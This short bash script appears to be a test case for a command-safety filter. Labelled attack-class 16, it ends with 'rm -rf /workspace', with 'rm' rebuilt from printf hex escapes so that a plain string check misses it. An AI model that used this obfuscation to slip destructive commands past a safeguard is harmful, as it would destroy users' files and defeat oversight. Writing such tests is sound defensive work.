#!/usr/bin/env bash
# attack-class: 16
# title: $(printf '\x72\x6d')
# why: printf interprets hex escapes

$(printf '\x72\x6d') -rf /workspace
